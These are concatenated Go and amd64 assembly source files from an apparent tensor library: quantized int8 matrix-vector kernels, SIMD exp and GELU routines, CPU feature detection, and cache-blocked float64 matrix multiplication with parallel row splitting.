	acc := s.acc[:w.NPad]
	for i := 0; i < x.Rows; i++ {
		xrow := x.Row(i)
		orow := out.Row(i)

		// Dynamic per-row activation scale.
		maxAbs := maxAbs32(xrow)
		if maxAbs == 0 {
			if bias != nil {
				copy(orow, bias.Data)
			} else {
				for j := range orow {
					orow[j] = 0
				}
			}
			continue
		}
		quantRow32(xrow, 127/maxAbs, qa)
		// The pad must be zero: the scratch is shared across layers of
		// different widths, so a previous wider row may have left values
		// in [K, KPad).
		for k := K; k < w.KPad; k++ {
			qa[k] = 0
		}

		int8MatVec(qa, w.Data, acc)

		var biasRow []float32
		if bias != nil {
			biasRow = bias.Data
		}
		dequantRow32(acc, w.Scales, maxAbs/127, biasRow, orow)
	}
}
