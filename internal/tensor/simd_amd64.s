// AVX2/FMA and AVX-512 VNNI kernels for the low-precision serve path (see
// simd_amd64.go). The float64 kernels are deliberately NOT implemented
// here: float64 is the bitwise-golden path and stays pure Go.

#include "textflag.h"

// 8-lane float32 constant vectors for the exp core.
DATA explo<>+0(SB)/4, $0xC2AE0000 // -87
DATA explo<>+4(SB)/4, $0xC2AE0000
DATA explo<>+8(SB)/4, $0xC2AE0000
DATA explo<>+12(SB)/4, $0xC2AE0000
DATA explo<>+16(SB)/4, $0xC2AE0000
DATA explo<>+20(SB)/4, $0xC2AE0000
DATA explo<>+24(SB)/4, $0xC2AE0000
DATA explo<>+28(SB)/4, $0xC2AE0000
GLOBL explo<>(SB), RODATA, $32

DATA exphi<>+0(SB)/4, $0x42B00000 // 88
DATA exphi<>+4(SB)/4, $0x42B00000
DATA exphi<>+8(SB)/4, $0x42B00000
DATA exphi<>+12(SB)/4, $0x42B00000
DATA exphi<>+16(SB)/4, $0x42B00000
DATA exphi<>+20(SB)/4, $0x42B00000
DATA exphi<>+24(SB)/4, $0x42B00000
DATA exphi<>+28(SB)/4, $0x42B00000
GLOBL exphi<>(SB), RODATA, $32

DATA expp7<>+0(SB)/4, $0x39500D01 // 1/5040
DATA expp7<>+4(SB)/4, $0x39500D01
DATA expp7<>+8(SB)/4, $0x39500D01
DATA expp7<>+12(SB)/4, $0x39500D01
DATA expp7<>+16(SB)/4, $0x39500D01
DATA expp7<>+20(SB)/4, $0x39500D01
DATA expp7<>+24(SB)/4, $0x39500D01
DATA expp7<>+28(SB)/4, $0x39500D01
GLOBL expp7<>(SB), RODATA, $32

DATA expp6<>+0(SB)/4, $0x3AB60B61 // 1/720
DATA expp6<>+4(SB)/4, $0x3AB60B61
DATA expp6<>+8(SB)/4, $0x3AB60B61
DATA expp6<>+12(SB)/4, $0x3AB60B61
DATA expp6<>+16(SB)/4, $0x3AB60B61
DATA expp6<>+20(SB)/4, $0x3AB60B61
DATA expp6<>+24(SB)/4, $0x3AB60B61
DATA expp6<>+28(SB)/4, $0x3AB60B61
GLOBL expp6<>(SB), RODATA, $32

DATA expp5<>+0(SB)/4, $0x3C088889 // 1/120
DATA expp5<>+4(SB)/4, $0x3C088889
DATA expp5<>+8(SB)/4, $0x3C088889
DATA expp5<>+12(SB)/4, $0x3C088889
DATA expp5<>+16(SB)/4, $0x3C088889
DATA expp5<>+20(SB)/4, $0x3C088889
DATA expp5<>+24(SB)/4, $0x3C088889
DATA expp5<>+28(SB)/4, $0x3C088889
GLOBL expp5<>(SB), RODATA, $32

DATA expp4<>+0(SB)/4, $0x3D2AAAAB // 1/24
DATA expp4<>+4(SB)/4, $0x3D2AAAAB
DATA expp4<>+8(SB)/4, $0x3D2AAAAB
DATA expp4<>+12(SB)/4, $0x3D2AAAAB
DATA expp4<>+16(SB)/4, $0x3D2AAAAB
DATA expp4<>+20(SB)/4, $0x3D2AAAAB
DATA expp4<>+24(SB)/4, $0x3D2AAAAB
DATA expp4<>+28(SB)/4, $0x3D2AAAAB
GLOBL expp4<>(SB), RODATA, $32

DATA expp3<>+0(SB)/4, $0x3E2AAAAB // 1/6
DATA expp3<>+4(SB)/4, $0x3E2AAAAB
DATA expp3<>+8(SB)/4, $0x3E2AAAAB
DATA expp3<>+12(SB)/4, $0x3E2AAAAB
DATA expp3<>+16(SB)/4, $0x3E2AAAAB
DATA expp3<>+20(SB)/4, $0x3E2AAAAB
DATA expp3<>+24(SB)/4, $0x3E2AAAAB
DATA expp3<>+28(SB)/4, $0x3E2AAAAB
GLOBL expp3<>(SB), RODATA, $32

// EXPCORE: Y0 = e^Y0 (clamped to [-87, 88]) using the same range
// reduction and degree-7 polynomial as fastExp32, 8 lanes at a time.
// Clobbers Y1-Y3. Requires Y8=invLn2, Y9=magic(1.5·2²³), Y10=c1, Y11=c2,
// Y12=1.0 (whose bits are also the 127<<23 exponent bias), Y13=0.5.
#define EXPCORE \
	VMAXPS explo<>(SB), Y0, Y0   \
	VMINPS exphi<>(SB), Y0, Y0   \
	VMOVAPS Y0, Y1               \
	VFMADD132PS Y8, Y9, Y1       \ // Y1 = x·invLn2 + magic (k in low mantissa)
	VSUBPS Y9, Y1, Y2            \ // Y2 = float(k)
	VFNMADD231PS Y10, Y2, Y0     \ // x -= k·c1
	VFNMADD231PS Y11, Y2, Y0     \ // x -= k·c2 → r
	VMOVUPS expp7<>(SB), Y3      \
	VFMADD213PS expp6<>(SB), Y0, Y3 \
	VFMADD213PS expp5<>(SB), Y0, Y3 \
	VFMADD213PS expp4<>(SB), Y0, Y3 \
	VFMADD213PS expp3<>(SB), Y0, Y3 \
	VFMADD213PS Y13, Y0, Y3      \ // ·r + 1/2
	VFMADD213PS Y12, Y0, Y3      \ // ·r + 1
	VFMADD213PS Y12, Y0, Y3      \ // ·r + 1
	VCVTTPS2DQ Y2, Y2            \ // k (exact: Y2 is integral)
	VPSLLD $23, Y2, Y2           \
	VPADDD Y12, Y2, Y2           \ // 2^k bits (bias add = 1.0f bits)
	VMULPS Y2, Y3, Y0

// 4-byte scalar constants, broadcast at kernel entry.
DATA cinvln2<>+0(SB)/4, $0x3FB8AA3B // 1.442695
GLOBL cinvln2<>(SB), RODATA, $4

DATA cmagic<>+0(SB)/4, $0x4B400000 // 1.5·2²³
GLOBL cmagic<>(SB), RODATA, $4

DATA cc1<>+0(SB)/4, $0x3F318000 // 0.693359375
GLOBL cc1<>(SB), RODATA, $4

DATA cc2<>+0(SB)/4, $0xB95E8083 // -2.12194440e-4
GLOBL cc2<>(SB), RODATA, $4

DATA cone<>+0(SB)/4, $0x3F800000 // 1.0
GLOBL cone<>(SB), RODATA, $4

DATA chalf<>+0(SB)/4, $0x3F000000 // 0.5
GLOBL chalf<>(SB), RODATA, $4

DATA ctwo<>+0(SB)/4, $0x40000000 // 2.0
GLOBL ctwo<>(SB), RODATA, $4

DATA cgeluc<>+0(SB)/4, $0x3F4C422A // √(2/π)
GLOBL cgeluc<>(SB), RODATA, $4

DATA cgelua<>+0(SB)/4, $0x3D372713 // 0.044715
GLOBL cgelua<>(SB), RODATA, $4

// EXPSETUP loads the shared exp constants into Y8-Y13.
#define EXPSETUP \
	VBROADCASTSS cinvln2<>(SB), Y8 \
	VBROADCASTSS cmagic<>(SB), Y9  \
	VBROADCASTSS cc1<>(SB), Y10    \
	VBROADCASTSS cc2<>(SB), Y11    \
	VBROADCASTSS cone<>(SB), Y12   \
	VBROADCASTSS chalf<>(SB), Y13

// func x86HasAVX2FMA() bool
//
// CPUID.1:ECX must report FMA (bit 12), OSXSAVE (bit 27) and AVX (bit 28);
// XGETBV(0) must show XMM+YMM state enabled (bits 1:2); CPUID.7.0:EBX must
// report AVX2 (bit 5).
TEXT ·x86HasAVX2FMA(SB), NOSPLIT, $0-1
	MOVL $0, AX
	CPUID
	CMPL AX, $7
	JLT  no
	MOVL $1, AX
	CPUID
	MOVL CX, DI
	ANDL $(1<<27 | 1<<28 | 1<<12), DI
	CMPL DI, $(1<<27 | 1<<28 | 1<<12)
	JNE  no
	MOVL $0, CX
	XGETBV
	ANDL $6, AX
	CMPL AX, $6
	JNE  no
	MOVL $7, AX
	MOVL $0, CX
	CPUID
	TESTL $(1<<5), BX
	JZ   no
	MOVB $1, ret+0(FP)
	RET

no:
	MOVB $0, ret+0(FP)
	RET

// func x86HasAVX512VNNI() bool
//
// Requires OSXSAVE with full ZMM/opmask state (XCR0[7:5] and [2:1]),
// AVX512F (CPUID.7.0:EBX[16]), AVX512BW (EBX[30]) for the ZMM-width
// VPMOVSXBW, and AVX512_VNNI (CPUID.7.0:ECX[11]).
TEXT ·x86HasAVX512VNNI(SB), NOSPLIT, $0-1
	MOVL $0, AX
	CPUID
	CMPL AX, $7
	JLT  vno
	MOVL $1, AX
	CPUID
	TESTL $(1<<27), CX
	JZ   vno
	MOVL $0, CX
	XGETBV
	ANDL $0xE6, AX
	CMPL AX, $0xE6
	JNE  vno
	MOVL $7, AX
	MOVL $0, CX
	CPUID
	MOVL BX, DI
	ANDL $(1<<16 | 1<<30), DI
	CMPL DI, $(1<<16 | 1<<30)
	JNE  vno
	TESTL $(1<<11), CX
	JZ   vno
	MOVB $1, ret+0(FP)
	RET

vno:
	MOVB $0, ret+0(FP)
	RET

// func f32MatVecAsm(a, b, out []float32)
//
// out[j] += Σ_k a[k]·b[k·N+j], K = len(a), N = len(out). Columns are
// processed in strips of 32/16/8/4 lanes (four/two/one YMM, one XMM
// accumulator) with a scalar tail; each strip streams the b panel once,
// broadcasting one a element per k and issuing memory-operand FMAs.
TEXT ·f32MatVecAsm(SB), NOSPLIT, $0-72
	MOVQ a_base+0(FP), SI
	MOVQ a_len+8(FP), R8
	MOVQ b_base+24(FP), DI
	MOVQ out_base+48(FP), DX
	MOVQ out_len+56(FP), R9
	TESTQ R8, R8
	JZ   done
	MOVQ R9, R13
	SHLQ $2, R13          // b row stride in bytes
	XORQ R10, R10         // j0

strip32:
	MOVQ R9, AX
	SUBQ R10, AX
	CMPQ AX, $32
	JLT  strip16
	LEAQ (DX)(R10*4), BX
	VMOVUPS (BX), Y0
	VMOVUPS 32(BX), Y1
	VMOVUPS 64(BX), Y2
	VMOVUPS 96(BX), Y3
	LEAQ (DI)(R10*4), R11
	XORQ R12, R12

loop32:
	VBROADCASTSS (SI)(R12*4), Y4
	VFMADD231PS (R11), Y4, Y0
	VFMADD231PS 32(R11), Y4, Y1
	VFMADD231PS 64(R11), Y4, Y2
	VFMADD231PS 96(R11), Y4, Y3
	ADDQ R13, R11
	INCQ R12
	CMPQ R12, R8
	JLT  loop32
	VMOVUPS Y0, (BX)
	VMOVUPS Y1, 32(BX)
	VMOVUPS Y2, 64(BX)
	VMOVUPS Y3, 96(BX)
	ADDQ $32, R10
	JMP  strip32

strip16:
	MOVQ R9, AX
	SUBQ R10, AX
	CMPQ AX, $16
	JLT  strip8
	LEAQ (DX)(R10*4), BX
	VMOVUPS (BX), Y0
	VMOVUPS 32(BX), Y1
	LEAQ (DI)(R10*4), R11
	XORQ R12, R12

loop16:
	VBROADCASTSS (SI)(R12*4), Y4
	VFMADD231PS (R11), Y4, Y0
	VFMADD231PS 32(R11), Y4, Y1
	ADDQ R13, R11
	INCQ R12
	CMPQ R12, R8
	JLT  loop16
	VMOVUPS Y0, (BX)
	VMOVUPS Y1, 32(BX)
	ADDQ $16, R10

strip8:
	MOVQ R9, AX
	SUBQ R10, AX
	CMPQ AX, $8
	JLT  strip4
	LEAQ (DX)(R10*4), BX
	VMOVUPS (BX), Y0
	LEAQ (DI)(R10*4), R11
	XORQ R12, R12

loop8:
	VBROADCASTSS (SI)(R12*4), Y4
	VFMADD231PS (R11), Y4, Y0
	ADDQ R13, R11
	INCQ R12
	CMPQ R12, R8
	JLT  loop8
	VMOVUPS Y0, (BX)
	ADDQ $8, R10

strip4:
	MOVQ R9, AX
	SUBQ R10, AX
	CMPQ AX, $4
	JLT  scalarj
	LEAQ (DX)(R10*4), BX
	VMOVUPS (BX), X0
	LEAQ (DI)(R10*4), R11
	XORQ R12, R12

loop4:
	VBROADCASTSS (SI)(R12*4), X4
	VFMADD231PS (R11), X4, X0
	ADDQ R13, R11
	INCQ R12
	CMPQ R12, R8
	JLT  loop4
	VMOVUPS X0, (BX)
	ADDQ $4, R10

scalarj:
	CMPQ R10, R9
	JGE  done
	VMOVSS (DX)(R10*4), X0
	LEAQ (DI)(R10*4), R11
	XORQ R12, R12

scalark:
	VMOVSS (SI)(R12*4), X1
	VFMADD231SS (R11), X1, X0
	ADDQ R13, R11
	INCQ R12
	CMPQ R12, R8
	JLT  scalark
	VMOVSS X0, (DX)(R10*4)
	INCQ R10
	JMP  scalarj

done:
	VZEROUPPER
	RET

// func int8MatVecAVX2(qa []int16, wt []int8, acc []int32)
//
// Blocked channel-pair layout (see Int8Matrix): per 16-channel block, each
// k-pair contributes 32 consecutive weight bytes (channel-major pairs).
// The kernel broadcasts the activation pair as one dword, sign-extends the
// weight pairs, and VPMADDWD+VPADDD accumulates 8 channels per YMM — no
// horizontal reduction anywhere.
TEXT ·int8MatVecAVX2(SB), NOSPLIT, $0-72
	MOVQ qa_base+0(FP), SI
	MOVQ qa_len+8(FP), R8    // KPad
	MOVQ wt_base+24(FP), DI
	MOVQ acc_base+48(FP), DX
	MOVQ acc_len+56(FP), R9  // NPad
	MOVQ R8, R14
	SHLQ $1, R14             // qa byte length
	SHRQ $4, R9              // 16-channel blocks
	TESTQ R9, R9
	JZ   done

blockloop:
	VPXOR Y0, Y0, Y0
	VPXOR Y1, Y1, Y1
	XORQ R12, R12            // qa byte offset

kloop:
	VPBROADCASTD (SI)(R12*1), Y2
	VPMOVSXBW (DI), Y3
	VPMOVSXBW 16(DI), Y4
	VPMADDWD Y2, Y3, Y3
	VPMADDWD Y2, Y4, Y4
	VPADDD Y3, Y0, Y0
	VPADDD Y4, Y1, Y1
	ADDQ $32, DI
	ADDQ $4, R12
	CMPQ R12, R14
	JLT  kloop
	VMOVDQU Y0, (DX)
	VMOVDQU Y1, 32(DX)
	ADDQ $64, DX
	DECQ R9
	JNZ  blockloop

done:
	VZEROUPPER
	RET

// func int8MatVecVNNI(qa []int16, wt []int8, acc []int32)
//
// Same contract and layout as int8MatVecAVX2, fused onto AVX-512
// VPDPWSSD: one instruction multiplies a k-pair across 16 channels and
// accumulates into the int32 lanes. Two k-pairs per iteration keep two
// independent accumulator chains.
TEXT ·int8MatVecVNNI(SB), NOSPLIT, $0-72
	MOVQ qa_base+0(FP), SI
	MOVQ qa_len+8(FP), R8
	MOVQ wt_base+24(FP), DI
	MOVQ acc_base+48(FP), DX
	MOVQ acc_len+56(FP), R9
	MOVQ R8, R14
	SHLQ $1, R14
	SHRQ $4, R9
	TESTQ R9, R9
	JZ   done

blockloop:
	VPXORQ Z0, Z0, Z0
	VPXORQ Z1, Z1, Z1
	XORQ R12, R12

kloop:
	VPBROADCASTD (SI)(R12*1), Z2
	VPBROADCASTD 4(SI)(R12*1), Z3
	VPMOVSXBW (DI), Z4
	VPMOVSXBW 32(DI), Z5
	VPDPWSSD Z4, Z2, Z0
	VPDPWSSD Z5, Z3, Z1
	ADDQ $64, DI
	ADDQ $8, R12
	CMPQ R12, R14
	JLT  kloop
	VPADDD Z1, Z0, Z0
	VMOVDQU32 Z0, (DX)
	ADDQ $64, DX
	DECQ R9
	JNZ  blockloop

done:
	VZEROUPPER
	RET

// 8-lane abs mask.
DATA cabs<>+0(SB)/4, $0x7FFFFFFF
DATA cabs<>+4(SB)/4, $0x7FFFFFFF
DATA cabs<>+8(SB)/4, $0x7FFFFFFF
DATA cabs<>+12(SB)/4, $0x7FFFFFFF
DATA cabs<>+16(SB)/4, $0x7FFFFFFF
DATA cabs<>+20(SB)/4, $0x7FFFFFFF
DATA cabs<>+24(SB)/4, $0x7FFFFFFF
DATA cabs<>+28(SB)/4, $0x7FFFFFFF
GLOBL cabs<>(SB), RODATA, $32

// func maxAbs32Asm(v []float32) float32
//
// Returns max_i |v[i]|; len(v) must be a multiple of 8 and nonzero.
TEXT ·maxAbs32Asm(SB), NOSPLIT, $0-28
	MOVQ v_base+0(FP), SI
	MOVQ v_len+8(FP), R8
	VXORPS Y0, Y0, Y0
	VMOVUPS cabs<>(SB), Y2
	SHRQ $3, R8

maloop:
	VMOVUPS (SI), Y1
	VANDPS Y2, Y1, Y1
	VMAXPS Y1, Y0, Y0
	ADDQ $32, SI
	DECQ R8
	JNZ  maloop
	VEXTRACTF128 $1, Y0, X1
	VMAXPS X1, X0, X0
	VPSHUFD $0x4E, X0, X1
	VMAXPS X1, X0, X0
	VPSHUFD $0xB1, X0, X1
	VMAXPS X1, X0, X0
	VMOVSS X0, ret+24(FP)
	VZEROUPPER
	RET

// func quantRow32Asm(x []float32, inv float32, qa []int16)
//
// qa[i] = int16(round-to-nearest(x[i]·inv)); len(x) must be a multiple of
// 8 (qa at least as long). Rounding is MXCSR nearest-even, which may
// differ from the scalar fallback's half-away-from-zero by one step at
// exact ties — inside the quantization error bound either way.
TEXT ·quantRow32Asm(SB), NOSPLIT, $0-56
	MOVQ x_base+0(FP), SI
	MOVQ x_len+8(FP), R8
	VBROADCASTSS inv+24(FP), Y2
	MOVQ qa_base+32(FP), DI
	SHRQ $3, R8

qrloop:
	VMOVUPS (SI), Y0
	VMULPS Y2, Y0, Y0
	VCVTPS2DQ Y0, Y0
	VEXTRACTI128 $1, Y0, X1
	VPACKSSDW X1, X0, X0
	VMOVDQU X0, (DI)
	ADDQ $32, SI
	ADDQ $16, DI
	DECQ R8
	JNZ  qrloop
	VZEROUPPER
	RET

// func dequantRow32Asm(acc []int32, scales []float32, rowScale float32, bias, out []float32)
//
// out[j] = float32(acc[j])·rowScale·scales[j] + bias[j]; len(out) must be
// a multiple of 8, acc/scales/bias at least as long.
TEXT ·dequantRow32Asm(SB), NOSPLIT, $0-104
	MOVQ acc_base+0(FP), SI
	MOVQ scales_base+24(FP), R10
	VBROADCASTSS rowScale+48(FP), Y2
	MOVQ bias_base+56(FP), R11
	MOVQ out_base+80(FP), DI
	MOVQ out_len+88(FP), R8
	SHRQ $3, R8

dqloop:
	VCVTDQ2PS (SI), Y0
	VMULPS Y2, Y0, Y0
	VMULPS (R10), Y0, Y0
	VADDPS (R11), Y0, Y0
	VMOVUPS Y0, (DI)
	ADDQ $32, SI
	ADDQ $32, R10
	ADDQ $32, R11
	ADDQ $32, DI
	DECQ R8
	JNZ  dqloop
	VZEROUPPER
	RET

// func expShiftAsm(v []float32, shift float32)
//
// v[i] = exp(v[i] - shift), 8 lanes per iteration; len(v) must be a
// multiple of 8 (the Go wrapper owns the tail).
TEXT ·expShiftAsm(SB), NOSPLIT, $0-28
	MOVQ v_base+0(FP), SI
	MOVQ v_len+8(FP), R8
	TESTQ R8, R8
	JZ   edone
	EXPSETUP
	VBROADCASTSS shift+24(FP), Y6
	SHRQ $3, R8

eloop:
	VMOVUPS (SI), Y0
	VSUBPS Y6, Y0, Y0
	EXPCORE
	VMOVUPS Y0, (SI)
	ADDQ $32, SI
	DECQ R8
	JNZ  eloop

edone:
	VZEROUPPER
	RET

// func gelu32Asm(v []float32)
//
// v[i] = 0.5·v·(1 + tanh(√(2/π)·(v + 0.044715·v³))) with
// tanh(u) = 1 − 2/(e^{2u}+1); len(v) must be a multiple of 8.
TEXT ·gelu32Asm(SB), NOSPLIT, $0-24
	MOVQ v_base+0(FP), SI
	MOVQ v_len+8(FP), R8
	TESTQ R8, R8
	JZ   gdone
	EXPSETUP
	VBROADCASTSS ctwo<>(SB), Y14
	VBROADCASTSS cgeluc<>(SB), Y15
	VBROADCASTSS cgelua<>(SB), Y7
	SHRQ $3, R8

gloop:
	VMOVUPS (SI), Y5             // v
	VMULPS Y5, Y5, Y0            // v²
	VMULPS Y5, Y0, Y0            // v³
	VMULPS Y7, Y0, Y0            // a·v³
	VADDPS Y5, Y0, Y0            // v + a·v³
	VMULPS Y15, Y0, Y0           // u
	VADDPS Y0, Y0, Y0            // 2u
	EXPCORE                      // e^{2u}
	VADDPS Y12, Y0, Y0           // e+1
	VDIVPS Y0, Y14, Y1           // 2/(e+1)
	VSUBPS Y1, Y12, Y1           // tanh(u)
	VADDPS Y12, Y1, Y1           // 1+tanh
	VMULPS Y13, Y1, Y1           // ·0.5
	VMULPS Y5, Y1, Y1            // ·v
	VMOVUPS Y1, (SI)
	ADDQ $32, SI
	DECQ R8
	JNZ  gloop

gdone:
	VZEROUPPER
	RET
