// Package tensor provides dense float64 matrices and a reverse-mode
// automatic-differentiation engine, the numerical substrate for the
// command-line language model (§II-B) and the tuning objectives (§IV).
//
// The design is an eager tape: every operation computes its value
// immediately and records a closure that propagates gradients to its
// parents. Graphs are built per step and garbage-collected afterwards.
// Attention is a single fused operation with a hand-derived backward pass so
// that one transformer layer contributes a handful of tape nodes rather than
// thousands.
package tensor

import (
	"fmt"
	"math"
	"runtime"
	"sync"
)

// Matrix is a dense row-major matrix of float64.
type Matrix struct {
	Rows, Cols int
	Data       []float64
}

// NewMatrix allocates a zeroed rows×cols matrix.
func NewMatrix(rows, cols int) *Matrix {
	if rows < 0 || cols < 0 {
		panic(fmt.Sprintf("tensor: negative dimensions %dx%d", rows, cols))
	}
	return &Matrix{Rows: rows, Cols: cols, Data: make([]float64, rows*cols)}
}

// FromSlice wraps data (not copied) as a rows×cols matrix.
func FromSlice(rows, cols int, data []float64) *Matrix {
	if len(data) != rows*cols {
		panic(fmt.Sprintf("tensor: data length %d does not match %dx%d", len(data), rows, cols))
	}
	return &Matrix{Rows: rows, Cols: cols, Data: data}
}

// Clone returns a deep copy.
func (m *Matrix) Clone() *Matrix {
	out := NewMatrix(m.Rows, m.Cols)
	copy(out.Data, m.Data)
	return out
}

// At returns element (i, j).
func (m *Matrix) At(i, j int) float64 { return m.Data[i*m.Cols+j] }

// Set assigns element (i, j).
func (m *Matrix) Set(i, j int, v float64) { m.Data[i*m.Cols+j] = v }

// Row returns a mutable view of row i.
func (m *Matrix) Row(i int) []float64 { return m.Data[i*m.Cols : (i+1)*m.Cols] }

// SameShape reports whether m and o have identical dimensions.
func (m *Matrix) SameShape(o *Matrix) bool { return m.Rows == o.Rows && m.Cols == o.Cols }

// Zero sets every element to 0.
func (m *Matrix) Zero() {
	for i := range m.Data {
		m.Data[i] = 0
	}
}

// Fill sets every element to v.
func (m *Matrix) Fill(v float64) {
	for i := range m.Data {
		m.Data[i] = v
	}
}

// AddInPlace adds o elementwise into m.
func (m *Matrix) AddInPlace(o *Matrix) {
	if !m.SameShape(o) {
		panic(fmt.Sprintf("tensor: AddInPlace shape mismatch %dx%d vs %dx%d", m.Rows, m.Cols, o.Rows, o.Cols))
	}
	for i, v := range o.Data {
		m.Data[i] += v
	}
}

// ScaleInPlace multiplies every element by s.
func (m *Matrix) ScaleInPlace(s float64) {
	for i := range m.Data {
		m.Data[i] *= s
	}
}

// AxpyInPlace performs m += alpha * o.
func (m *Matrix) AxpyInPlace(alpha float64, o *Matrix) {
	if !m.SameShape(o) {
		panic(fmt.Sprintf("tensor: Axpy shape mismatch %dx%d vs %dx%d", m.Rows, m.Cols, o.Rows, o.Cols))
	}
	for i, v := range o.Data {
		m.Data[i] += alpha * v
	}
}

// Norm2 returns the Frobenius norm.
func (m *Matrix) Norm2() float64 {
	s := 0.0
	for _, v := range m.Data {
		s += v * v
	}
	return math.Sqrt(s)
}

// panelRows sizes a cache panel: how many rows of a width-cols float64
// matrix fit in roughly 256 KiB, clamped so tiling never degenerates.
func panelRows(cols int) int {
	if cols <= 0 {
		return 64
	}
	r := (256 << 10) / (8 * cols)
	if r < 16 {
		return 16
	}
	if r > 256 {
		return 256
	}
	return r
}

// matMulRows computes out rows [lo,hi) of a·b with the i-k-j loop order,
// cache-blocked over k so a panel of b rows stays resident across the rows
// of a, and register-blocked four k-rows at a time so each output element
// is loaded and stored once per four multiply-adds instead of once per
// one. Both blockings keep k ascending per output element, so results are
// bitwise identical to the naive triple loop. out rows must be pre-zeroed.
func matMulRows(a, b, out *Matrix, lo, hi int) {
	bk := panelRows(b.Cols)
	n := b.Cols
	for k0 := 0; k0 < b.Rows; k0 += bk {
		k1 := k0 + bk
		if k1 > b.Rows {
			k1 = b.Rows
		}
		for i := lo; i < hi; i++ {
			arow := a.Data[i*a.Cols : (i+1)*a.Cols]
			orow := out.Data[i*n : (i+1)*n : (i+1)*n]
			k := k0
			for ; k+4 <= k1; k += 4 {
				a0, a1, a2, a3 := arow[k], arow[k+1], arow[k+2], arow[k+3]
				b0 := b.Data[k*n : (k+1)*n : (k+1)*n]
				b1 := b.Data[(k+1)*n : (k+2)*n : (k+2)*n]
				b2 := b.Data[(k+2)*n : (k+3)*n : (k+3)*n]
				b3 := b.Data[(k+3)*n : (k+4)*n : (k+4)*n]
				for j := range orow {
					s := orow[j]
					s += a0 * b0[j]
					s += a1 * b1[j]
					s += a2 * b2[j]
					s += a3 * b3[j]
					orow[j] = s
				}
			}
			for ; k < k1; k++ {
				av := arow[k]
				brow := b.Data[k*n : (k+1)*n : (k+1)*n]
				for j, bv := range brow {
					orow[j] += av * bv
				}
			}
		}
	}
}

// MatMulInto computes out = a·b, overwriting out. Shapes must agree.
// The kernel is cache-blocked (tiled) over the shared dimension and splits
// rows across GOMAXPROCS workers when the batch is large enough.
func MatMulInto(a, b, out *Matrix) {
	if a.Cols != b.Rows || out.Rows != a.Rows || out.Cols != b.Cols {
		panic(fmt.Sprintf("tensor: MatMul shapes %dx%d · %dx%d -> %dx%d",
			a.Rows, a.Cols, b.Rows, b.Cols, out.Rows, out.Cols))
	}
	out.Zero()
	parallelRows(a.Rows, func(lo, hi int) {
		matMulRows(a, b, out, lo, hi)
	})
}

// MatMul computes a·b into a new matrix.
func MatMul(a, b *Matrix) *Matrix {
	out := NewMatrix(a.Rows, b.Cols)
	MatMulInto(a, b, out)
	return out
}

// MatMulATBInto computes out += aᵀ·b without materializing the transpose.
// Note the accumulation: callers use it for gradient updates.
func MatMulATBInto(a, b, out *Matrix) {
	if a.Rows != b.Rows || out.Rows != a.Cols || out.Cols != b.Cols {
		panic(fmt.Sprintf("tensor: MatMulATB shapes %dx%d ᵀ· %dx%d -> %dx%d",
			a.Rows, a.Cols, b.Rows, b.Cols, out.Rows, out.Cols))
	}
	for i := 0; i < a.Rows; i++ {
		arow := a.Data[i*a.Cols : (i+1)*a.Cols]
		brow := b.Data[i*b.Cols : (i+1)*b.Cols]
		for k, av := range arow {
			if av == 0 {
				continue
			}
			orow := out.Data[k*b.Cols : (k+1)*b.Cols]
			for j, bv := range brow {
				orow[j] += av * bv
			}
		}
	}
}

// matMulABTRows computes out rows [lo,hi) of a·bᵀ (accumulating), tiled
// over the rows of b so a panel stays cache-resident across rows of a. Each
// output element is one full-length dot product, so tiling does not change
// rounding.
func matMulABTRows(a, b, out *Matrix, lo, hi int) {
	bj := panelRows(b.Cols)
	for j0 := 0; j0 < b.Rows; j0 += bj {
		j1 := j0 + bj
		if j1 > b.Rows {
			j1 = b.Rows
		}
		for i := lo; i < hi; i++ {
			arow := a.Data[i*a.Cols : (i+1)*a.Cols]
			orow := out.Data[i*b.Rows : (i+1)*b.Rows]
			for j := j0; j < j1; j++ {
				brow := b.Data[j*b.Cols : (j+1)*b.Cols]
				s := 0.0
				for k, av := range arow {
					s += av * brow[k]
				}
				orow[j] += s
			}
		}
	}
}

// MatMulABTInto computes out += a·bᵀ without materializing the transpose.
// The kernel is cache-blocked over the rows of b.
func MatMulABTInto(a, b, out *Matrix) {
	if a.Cols != b.Cols || out.Rows != a.Rows || out.Cols != b.Rows {
		panic(fmt.Sprintf("tensor: MatMulABT shapes %dx%d · %dx%d ᵀ -> %dx%d",
			a.Rows, a.Cols, b.Rows, b.Cols, out.Rows, out.Cols))
	}
	parallelRows(a.Rows, func(lo, hi int) {
		matMulABTRows(a, b, out, lo, hi)
	})
}

// TransposeOf returns aᵀ as a new matrix.
func TransposeOf(a *Matrix) *Matrix {
	out := NewMatrix(a.Cols, a.Rows)
	for i := 0; i < a.Rows; i++ {
		arow := a.Data[i*a.Cols : (i+1)*a.Cols]
		for j, v := range arow {
			out.Data[j*a.Rows+i] = v
		}
	}
	return out
}

// ParallelRows splits [0, n) across GOMAXPROCS workers when the work is
// large enough to amortize goroutine startup; otherwise it runs inline.
// Exported so row-independent scans elsewhere (e.g. batch kNN scoring)
// share one fan-out implementation.
func ParallelRows(n int, fn func(lo, hi int)) {
	parallelRows(n, fn)
}

// parallelRows is the internal implementation of ParallelRows.
func parallelRows(n int, fn func(lo, hi int)) {
	workers := runtime.GOMAXPROCS(0)
	if workers <= 1 || n < 64 {
		fn(0, n)
		return
	}
	if workers > n {
		workers = n
	}
	chunk := (n + workers - 1) / workers
	var wg sync.WaitGroup
	for lo := 0; lo < n; lo += chunk {
		hi := lo + chunk
		if hi > n {
			hi = n
		}
		wg.Add(1)
		go func(lo, hi int) {
			defer wg.Done()
			fn(lo, hi)
		}(lo, hi)
	}
	wg.Wait()
}
