// Package tensor provides dense float64 matrices and a reverse-mode
// automatic-differentiation engine, the numerical substrate for the
// command-line language model (§II-B) and the tuning objectives (§IV).
//
// The design is an eager tape: every operation computes its value
// immediately and records a closure that propagates gradients to its
// parents. Graphs are built per step and garbage-collected afterwards.
// Attention is a single fused operation with a hand-derived backward pass so
// that one transformer layer contributes a handful of tape nodes rather than
// thousands.
package tensor

import (
	"fmt"
	"math"
	"runtime"
	"sync"
)

// Matrix is a dense row-major matrix of float64.
type Matrix struct {
	Rows, Cols int
	Data       []float64
}

// NewMatrix allocates a zeroed rows×cols matrix.
func NewMatrix(rows, cols int) *Matrix {
	if rows < 0 || cols < 0 {
		panic(fmt.Sprintf("tensor: negative dimensions %dx%d", rows, cols))
	}
	return &Matrix{Rows: rows, Cols: cols, Data: make([]float64, rows*cols)}
}

// FromSlice wraps data (not copied) as a rows×cols matrix.
func FromSlice(rows, cols int, data []float64) *Matrix {
	if len(data) != rows*cols {
